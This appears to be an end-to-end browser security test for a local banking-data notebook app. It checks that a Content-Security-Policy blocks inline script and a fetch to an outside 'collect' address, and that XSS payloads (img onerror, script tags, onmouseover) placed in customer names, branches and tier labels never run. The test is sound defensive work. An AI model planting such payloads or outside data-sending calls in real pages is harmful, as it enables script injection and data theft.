import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { inMenu, openApp, scrollThroughNotebook, settled, type Harness } from './harness';
import { presetById } from '../../src/schemes/presets';

const EVIL = '<img src=x onerror="window.__xss=1">';
const EVIL_BRANCH = '<script>window.__xss=2</script>支行';

/** Two months of customers whose names, ids and branches carry HTML/JS. */
function evilCsv(): Buffer {
  const lines = ['客户号,客户姓名,所属支行,月日均AUM(元),数据日期'];
  for (let i = 0; i < 60; i++) {
    for (const [period, factor] of [['2025/11/30', 1], ['2025/12/31', 1.4]] as const) {
      const aum = Math.round((i % 7) * 90000 * factor + (i % 3) * 4000000);
      lines.push(`"<b onmouseover=window.__xss=4>${i}</b>","${EVIL}${i}","${i % 2 ? EVIL_BRANCH : '杭州西湖支行'}",${aum},${period}`);
    }
  }
  return Buffer.from(`${lines.join('\r\n')}\r\n`, 'utf8');
}

describe('security in Chromium', () => {
  let h: Harness;
  const violations: string[] = [];
  beforeAll(async () => {
    h = await openApp();
    await h.page.goto(`${h.origin}/`);
    await settled(h);
    await h.page.exposeFunction('__reportViolation', (d: string) => violations.push(d));
    await h.page.evaluate(() => document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __reportViolation(d: string): void }).__reportViolation(e.violatedDirective)));
  });
  afterAll(async () => h?.close());

  test('the page carries a Content-Security-Policy that forbids inline script and outside connections', async () => {
    const csp = await h.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).toMatch(/connect-src 'self'/);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    const ran = await h.page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.body.appendChild(s);
      s.remove();
      return (window as unknown as { __inline?: number }).__inline;
    });
    expect(ran).toBeUndefined();
    const fetched = await h.page.evaluate(() => fetch('http://203.0.113.7/collect').then(() => 'sent', () => 'blocked'));
    expect(fetched).toBe('blocked');
    await expect.poll(() => violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
    // The CSP stopped it before any request: nothing reached the network layer.
    expect(h.outside).toEqual([]);
  });

  test('names, ids, branches and tier labels with HTML/JS never run, whatever chart is hovered', async () => {
    await h.page.getByText('数据与加载报告').click();
    await h.page.getByRole('button', { name: '清空全部数据' }).click();
    await h.page.setInputFiles('[data-testid="file-input"]', { name: 'evil.csv', mimeType: 'text/csv', buffer: evilCsv() });
    await expect.poll(() => h.page.locator('details.file-report', { hasText: 'evil.csv' }).count(), { timeout: 30_000 }).toBe(1);
    // A scheme whose tier labels carry HTML as well (schemes are user files too).
    const retail = presetById('retail-aum');
    const evilScheme = { ...retail, id: 'evil', tiers: retail.tiers.map((t) => ({ ...t, label: { zh: `${EVIL}${t.label.zh}`, en: `${EVIL}${t.label.en}` } })) };
    await h.page.setInputFiles('[data-testid="scheme-input"]', { name: 'evil-scheme.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(evilScheme)) });
    await inMenu(h.page, '按当前方案重建默认笔记本');
    await h.page.waitForSelector('[data-cell="tiers"] .chart[data-rendered="true"]', { timeout: 30_000 });
    await expect.poll(async () => (await h.page.$$eval('[data-cell]', (els) => els.map((e) => e.getAttribute('data-status')))).filter((s) => s === 'running' || s === 'pending').length, { timeout: 60_000 }).toBe(0);
    await h.page.getByRole('button', { name: '显示敏感信息…' }).click();
    await h.page.getByRole('button', { name: '确认显示' }).click();
    await scrollThroughNotebook(h.page);

    const charts = await h.page.locator('.chart').all();
    expect(charts.length).toBeGreaterThanOrEqual(8);
    for (const chart of charts) {
      await chart.scrollIntoViewIfNeeded();
      const box = await chart.boundingBox();
      if (!box) continue;
      for (let fx = 0.08; fx < 1; fx += 0.12) {
        for (let fy = 0.15; fy < 0.95; fy += 0.2) await h.page.mouse.move(box.x + box.width * fx, box.y + box.height * fy);
      }
    }
    const tooltips = await h.page.$$eval('div', (divs) => divs.filter((d) => d.style.position === 'absolute' && d.innerHTML.includes('&lt;img')).length);
    expect(tooltips).toBeGreaterThan(0); // the tooltips did show the names — encoded
    expect(await h.page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    expect(await h.page.locator('img[src="x"]').count()).toBe(0);
    expect(await h.page.locator('script:not([src])').count()).toBe(0);
    await h.page.screenshot({ path: 'test-results/e2e/20-xss-names.png' });
  });

  test('nothing left the origin and the console has no errors besides the blocked attempts', () => {
    expect(h.outside).toEqual([]);
    expect(h.consoleErrors.filter((e) => !/Content Security Policy|Failed to fetch|ERR_BLOCKED|net::/.test(e))).toEqual([]);
  });
});
